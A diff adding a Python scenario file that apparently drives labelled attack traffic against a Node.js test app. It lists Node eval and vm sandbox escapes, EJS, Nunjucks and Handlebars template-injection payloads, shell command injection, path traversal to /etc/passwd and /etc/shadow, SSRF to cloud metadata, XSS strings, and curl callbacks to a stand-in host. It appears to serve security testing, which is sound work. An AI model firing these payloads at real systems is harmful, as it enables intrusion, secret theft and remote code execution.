@@ -1,0 +1,30 @@
+# SPDX-License-Identifier: GPL-2.0-or-later
+"""Node: eval and vm, EJS in a path, Nunjucks, Handlebars, exec, files by path, fetching, reflected script."""
+from lib.steps import form, get, q, sends, values
+
+OUT = '198.51.100.140'
+NODE = ['3*7', "require('child_process').execSync('id').toString()", '7919*29', "require('fs').readFileSync('/etc/passwd','utf8')", "process.version", "'krof'.split('').reverse().join('')", "require('os').hostname()", 'process.env.BUILD', "[1,2,3,4].map(x=>x*1111).join('-')", 'ukjent', '1+', "(function(){return 40961*3})()",
+        "require('child_process').execSync('sleep 2')", "require('http').get('http://%s:9090/nd')&&1" % OUT, "Buffer.from('YsOldGZvcmVuaW5n','base64').toString()", "String.fromCharCode(98,114,121,103,103,101)", "process.cwd()", "JSON.stringify(process.versions)", "while(Date.now()<%d);" % 0, "global.process.mainModule.require('child_process').execSync('uname -a')+''", "throw new Error('x')",
+        "require('fs').writeFileSync('/tmp/nd','x')", "require('crypto').createHash('md5').update('konseki').digest('hex')", "require('fs').readdirSync('/etc').slice(0,9).join()", "`${6*7}-${'ab'.toUpperCase()}`", "eval('91*101')", "new Function('return 83*97')()"]
+VM = ['nr > 2', "this.constructor.constructor('return process')().mainModule.require('child_process').execSync('sleep 1;id')", "require('child_process').execSync('curl -s http://%s:9090/vm')" % OUT, 'nr %', "process.exit", "(()=>{const t=Date.now();while(Date.now()-t<500);return 1})()", "nr==1&&require('fs').readFileSync('/etc/passwd')"]
+EJS = ['<%= 7*7 %>', '<%= 7919*37 %>', "<%= process.mainModule.require('child_process').execSync('id') %>", "<%= global.process.mainModule.require('child_process').execSync('uname -a').toString() %>", '<% for (let i=1;i<4;i++) { %><%= i*1111 %>;<% } %>', '<%- "fett".toUpperCase() %>', '<%= sesong * 3 %>', '{{7*7}}', '${7*7}', '<%= ukjent %>', '<%= 1+ %>', '<%# x %>slutt', '<%= process.version %>', "<%= global.process.mainModule.constructor._load('child_process').execSync('sleep 2') %>"]
+NUN = ['{{7*7}}', '{{7919*41}}', "{{range.constructor(\"return global.process.mainModule.require('child_process').execSync('id')\")()}}", "{{ 'brygge'|upper|reverse }}", '{% for x in [1,2,3] %}{{ x*1111 }} {% endfor %}', '{{ medlem }}', '{{ ukjent.felt }}', '{{ 7*', "{{ [3,1,2]|sort|join('+') }}", "{{ cycler.constructor(\"return process.env.BUILD+process.pid*0\")() }}", "{% set a = 91 %}{{ a*a }}", '<%= 7*7 %>', "{{ 'abc'|length * 10001 }}", "{# k #}slutt", "{{ joiner.constructor('return global.process.mainModule.require(\"child_process\").execSync(\"curl -s http://%s:9090/nj\")')() }}" % OUT, "{{ dict }}", "{{ ['a','b']|dump }}"]
+HBS = ['{{7*7}}', '{{medlem}}', '{{baat.navn}}', '{{#each baat}}{{@key}}={{this}};{{/each}}', '{{#if medlem}}ja{{/if}}', '{{constructor}}', '{{#with "s" as |string|}}{{#with split as |conslist|}}{{conslist}}{{/with}}{{/with}}', '{{lookup baat "lengde"}}', '{{', '{{{baat.navn}}}', '{{#with medlem}}{{this.length}}{{/with}}', '{{! k }}slutt', '{{ukjent}}', '{{helperMissing}}', '{{#each "xyz"}}{{@index}}{{/each}}', '{{log 1}}']
+VERT = ['localhost;id', 'localhost|uname -a', '$(id)', 'localhost && cat /etc/passwd', 'localhost;sleep 2', f';curl -s http://{OUT}:9090/nv', '`hostname`', ';echo $((7919*43))', 'localhost;node -p "83*89*97"', ';nada123', '||whoami', "localhost;printf '%x' 3735928559"]
+LOGG = ["2024'; id; '", "x' /etc/passwd; echo '", "$(id)", "2024-05-01", "x'; echo $((7919*47)); '", "'", "x';sleep 2;'", "a'|hostname;'", f"x'; curl -s http://{OUT}:9090/nl; '"]
+FIL = ['../../../etc/passwd', '..%2f..%2f..%2fetc%2fpasswd', '%2e%2e/%2e%2e/%2e%2e/etc/hostname', '..%2f..%2fsrv%2ffjord%2ffjord.js', '..%252f..%252fetc/passwd', 'nada.txt', '..%5c..%5cwindows%5cwin.ini', '..%2flogg.txt', '..%2f..%2f..%2fproc%2fself%2fenviron', '....%2f%2fetc', '..%2f..%2f..%2fetc%2fshadow', '%2fetc%2fpasswd']
+URLS = [f'http://{OUT}:9090/nf', 'http://192.0.2.99/lien.html', 'http://127.0.0.1:3000/', 'file:///etc/passwd', 'http://203.0.113.91:3000/fil/brygge.txt', 'http://n2.drop.example/lien.html', 'http://192.0.2.99:1/', 'http://[::1]/', 'gopher://x', 'http://169.254.169.254/latest/', 'http://nirgends.invalid/']
+XSS = ['<script>alert(73301)</script>', "' onfocus=alert(73302) autofocus '", '<img src=x onerror=alert(73303)>', '"><svg onload=alert(73304)>', "'><script>alert(73305)</script>", '";alert(73306);//', '</script><script>alert(73307)</script>', '<b>x</b>']
+BUILDS = [('203.0.113.91', 3000), ('203.0.113.92', 3000), ('203.0.113.93', 3000)]
+
+
+def spaced(steps):
+    for step in steps:
+        yield dict(step, pause=1.6 if any(w in step['target'] + str(step.get('body')) for w in ('192.0.2', '198.51', 'drop.example', '%3A9090')) else 0.05)
+
+
+SCENARIO = [(BUILDS, [
+    get('/'), get('/regn?uttrykk=' + q('3*7')), *spaced(values('/regn', 'uttrykk', 'nodei', *NODE[1:], keep=True)), sends('/filter', {'vilkaar': 'nr > 2'}), *spaced(sends('/filter', {'vilkaar': v}, 'nodei') for v in VM[1:]), get('/hilsen/Kari'),
+    *spaced(get('/hilsen/' + q(e), 'ssti') for e in EJS), form('/invitasjon', {'tekst': 'Kjære {{ medlem }}'}), *spaced(form('/invitasjon', {'tekst': n}, 'ssti', keep=True) for n in NUN), *spaced(sends('/invitasjon', {'tekst': n}, 'ssti') for n in NUN[::3]), form('/merkelapp', {'tekst': '{{baat.navn}}'}),
+    *spaced(form('/merkelapp', {'tekst': h}, 'ssti') for h in HBS), get('/vert?navn=localhost'), *spaced(values('/vert', 'navn', 'cmdi', *VERT)), sends('/api/logg', {'dato': '2024-05-02'}), *spaced(sends('/api/logg', {'dato': v}, 'cmdi') for v in LOGG), get('/fil/brygge.txt'), *[get('/fil/' + f, 'lfi') for f in FIL],
+    get('/hent?kilde=' + q('http://mirror.example.net/')), *spaced(values('/hent', 'kilde', 'ssrf', *URLS)), get('/sok?tekst=torsk'), *values('/sok', 'tekst', 'xss', *XSS), *values('/sok?type=json', 'tekst', 'xss', *XSS[:3]), *values('/sok?type=data', 'tekst', 'xss', *XSS), *values('/sok?type=js', 'tekst', 'xss', *XSS), get('/' + q('<script>alert(73308)</script>'), 'xss')])]
